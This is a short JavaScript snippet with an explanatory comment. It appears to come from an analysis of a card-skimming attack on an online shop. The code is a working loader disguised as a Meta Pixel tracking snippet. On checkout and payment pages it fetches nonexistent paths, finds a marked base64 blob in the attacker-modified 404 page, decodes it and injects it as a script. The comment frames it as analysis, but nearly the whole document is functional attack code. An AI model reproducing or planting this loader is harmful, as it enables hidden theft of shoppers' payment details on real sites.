// The loader, written into the shop's own page to pass for a Meta Pixel snippet: it requests a
// path that does not exist on the shop, so the server answers with its 404 page, which the
// attacker had modified to carry the skimmer in an HTML comment after a marker. The loader finds
// the marker with a regular expression, decodes the base64 after it and runs it; if the first
// path gives nothing it tries another.
!function (f, b, e, v, n, t, s) {
  if (f.fbq) return;
  n = f.fbq = function () { n.callMethod ? n.callMethod.apply(n, arguments) : n.queue.push(arguments); };
  if (!f._fbq) f._fbq = n;
  n.push = n; n.loaded = !0; n.version = "2.0"; n.queue = [];
  var paths = ["/static/fbevents/sdk-v2.js", "/pub/media/fb/pixel-loader", "/fbevents/" + Math.random().toString(36).slice(2)];
  function run(code) {
    t = b.createElement(e);
    t.text = code;
    s = b.getElementsByTagName(e)[0];
    s.parentNode.insertBefore(t, s);
  }
  function probe(i) {
    if (i >= paths.length || !/checkout|onestep|payment/.test(f.location.pathname)) return;
    fetch(paths[i], { credentials: "same-origin", cache: "no-store" }).then(function (r) {
      return r.text();
    }).then(function (html) {
      var m = /<!--\s*COOKIE_ANNOT\s*([A-Za-z0-9+\/=]{40,})\s*-->/.exec(html);
      if (m) run(f.atob(m[1]));
      else probe(i + 1);
    }).catch(function () { probe(i + 1); });
  }
  probe(0);
}(window, document, "script", "https://connect.facebook.invalid/en_US/fbevents.js");
fbq("init", "1183629045521147");
fbq("track", "PageView");
